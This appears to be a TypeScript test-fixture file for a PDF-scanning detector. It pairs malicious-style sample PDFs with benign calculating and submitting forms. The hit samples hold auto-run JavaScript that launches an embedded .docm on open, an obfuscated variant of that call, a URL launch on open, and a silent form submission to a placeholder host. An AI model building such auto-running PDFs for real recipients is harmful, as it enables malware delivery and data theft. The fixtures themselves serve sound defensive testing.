import type { Examples } from "@doorward/core";
import { embedFile, makePdf, runScript } from "../example-pdf.ts";

/** PDFs whose scripts open and send, and forms whose scripts calculate. */
export const examples: Examples = {
  hits: [
    {
      name: "a script that opens the file inside",
      delivered: true,
      files: {
        "Scan.pdf": makePdf({
          catalog: `/OpenAction ${runScript('this.exportDataObject({ cName: "scan.docm", nLaunch: 2 });')}`,
          objects: embedFile("scan.docm", "text"),
        }),
      },
    },
    {
      name: "the same name from pieces, behind a click",
      delivered: true,
      files: {
        "Scan.pdf": makePdf({
          annotations: [
            `<< /Subtype /Link /A ${runScript('this["exp" + "ortData\\x4fbject"]({ cName: "a", "nLaunch": 1 });')} >>`,
          ],
        }),
      },
    },
    {
      name: "a script that opens an address when the document is opened",
      delivered: true,
      files: {
        "Notice.pdf": makePdf({
          catalog: `/Names << /JavaScript << /Names [(a) ${runScript('app.launchURL("https://files.example/", true);')}] >> >>`,
        }),
      },
    },
    {
      name: "a script that sends the form when its page is shown",
      delivered: true,
      files: {
        "Form.pdf": makePdf({
          page: `/AA << /O ${runScript('this.submitForm({ cURL: "https://post.example/" });')} >>`,
        }),
      },
    },
  ],
  misses: [
    {
      name: "a tax form that calculates",
      why: "Its scripts add up what is typed in.",
      delivered: true,
      files: {
        "Tax form.pdf": makePdf({
          catalog: `/OpenAction ${runScript('this.getField("year").value = 2026;')}`,
          annotations: [
            `<< /FT /Tx /T (sum) /AA << /C ${runScript('event.value = this.getField("a").value + this.getField("b").value;')} >> >>`,
          ],
        }),
      },
    },
    {
      name: "a form with a button that sends it",
      why: "The form goes only when somebody presses the button.",
      delivered: true,
      files: {
        "Application.pdf": makePdf({
          catalog: `/OpenAction ${runScript('this.getField("date").value = "";')}`,
          annotations: [`<< /FT /Btn /T (send) /A ${runScript('this.submitForm("https://forms.example/in");')} >>`],
        }),
      },
    },
    {
      name: "a portfolio with a button that saves a part of it",
      why: "The part is saved where one wants it, and nothing opens it.",
      delivered: true,
      files: {
        "Report.pdf": makePdf({
          annotations: [`<< /FT /Btn /A ${runScript('this.exportDataObject({ cName: "data.csv", nLaunch: 0 });')} >>`],
          objects: embedFile("data.csv", "a,b"),
        }),
      },
    },
  ],
  evasions: [
    {
      name: "an action in place of the script",
      caughtBy: "file/pdf-opens-address",
      delivered: true,
      files: { "Notice.pdf": makePdf({ catalog: "/OpenAction << /S /URI /URI (https://files.example/) >>" }) },
    },
  ],
};
